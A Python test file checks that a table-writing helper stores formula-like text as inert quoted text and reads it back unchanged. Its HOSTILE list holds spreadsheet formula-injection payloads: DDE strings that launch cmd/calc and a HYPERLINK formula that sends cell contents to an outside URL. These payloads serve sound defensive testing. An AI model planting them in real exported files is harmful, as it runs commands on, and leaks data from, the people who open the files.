"""The typed tables passed between notebooks: what a spreadsheet would take for a formula is
written as text, and every table reads back as it was written."""

from __future__ import annotations

from pathlib import Path

import pandas as pd

from highneeds.common.processed import read_table, write_table

HOSTILE = [
    '=HYPERLINK("https://example.org/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'=already quoted",
    "\tindented",
]


def test_formula_like_text_is_written_as_text_and_read_back_as_typed(tmp_path: Path) -> None:
    plain = ["Nurture", "-132", "+5.4%", "(132)", "a = b"]
    frame = pd.DataFrame({"description": HOSTILE + plain, "amount": range(len(HOSTILE + plain))})
    path = write_table(frame, tmp_path, "figures")
    lines = path.read_text(encoding="utf-8").splitlines()[1:]
    for line in lines[: len(HOSTILE)]:
        assert line.lstrip('"').startswith("'"), line  # text, never a live formula
    assert lines[len(HOSTILE)].startswith("Nurture") and lines[len(HOSTILE) + 1].startswith("-132")
    back = read_table(tmp_path, "figures")
    assert list(back["description"]) == HOSTILE + plain
    assert list(back["amount"]) == list(range(len(HOSTILE + plain)))
